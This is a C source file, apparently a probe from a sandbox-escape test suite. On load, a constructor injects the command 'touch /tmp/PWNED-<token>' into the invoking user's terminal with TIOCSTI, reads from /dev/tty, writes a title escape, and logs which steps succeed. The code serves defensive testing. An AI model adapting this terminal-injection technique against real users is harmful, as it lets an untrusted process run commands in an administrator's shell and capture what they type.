/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The terminal attack: type "touch /tmp/PWNED-<token>" (the token from /etc/hostile) into
 * the terminal of whoever started the probe, with TIOCSTI on /dev/tty and on fds 0-2; read
 * from /dev/tty; write a title escape to it. Logged: "open /dev/tty: ok|ERRNO",
 * "read /dev/tty: ...", "write /dev/tty: ...", "tiocsti WHAT: typed|ERRNO", "tty_nr N".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "hostile.h"

static void type_into(int fd, const char *what, const char *cmd)
{
	size_t i;

	for (i = 0; cmd[i]; i++)
		if (ioctl(fd, TIOCSTI, &cmd[i]) < 0)
			break;
	hostile_log("tiocsti %s: %s", what, cmd[i] ? hostile_errno(errno) : "typed");
}

/* Reads without waiting: what the admin types would come this way. */
static void read_tty(int fd)
{
	char buf[256];
	ssize_t n;

	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
	n = read(fd, buf, sizeof(buf));
	if (n < 0)
		hostile_log("read /dev/tty: %s", hostile_errno(errno));
	else
		hostile_log("read /dev/tty: %zd bytes", n);
}

/* Field 7 of /proc/self/stat: the controlling terminal's device number, 0 for none. */
static void log_tty_nr(void)
{
	char buf[512], state;
	int ppid, pgrp, sid, tty_nr;
	FILE *f = fopen("/proc/self/stat", "re");
	char *paren;

	if (!f)
		return;
	buf[fread(buf, 1, sizeof(buf) - 1, f)] = '\0';
	fclose(f);
	paren = strrchr(buf, ')');
	if (paren && sscanf(paren + 1, " %c %d %d %d %d", &state, &ppid, &pgrp, &sid, &tty_nr) == 5)
		hostile_log("tty_nr %d", tty_nr);
}

__attribute__((constructor)) static void attack(void)
{
	static const char title[] = "\033]0;PWNED\007";
	char cmd[192], what[16];
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);

	snprintf(cmd, sizeof(cmd), "touch /tmp/PWNED-%s\n", hostile_arg());
	log_tty_nr();
	hostile_log("open /dev/tty: %s", tty < 0 ? hostile_errno(errno) : "ok");
	if (tty >= 0) {
		read_tty(tty);
		hostile_log("write /dev/tty: %s",
			    write(tty, title, sizeof(title) - 1) < 0 ? hostile_errno(errno) : "ok");
		type_into(tty, "/dev/tty", cmd);
		close(tty);
	}
	for (int fd = 0; fd <= 2; fd++) {
		snprintf(what, sizeof(what), "fd %d", fd);
		type_into(fd, what, cmd);
	}
}
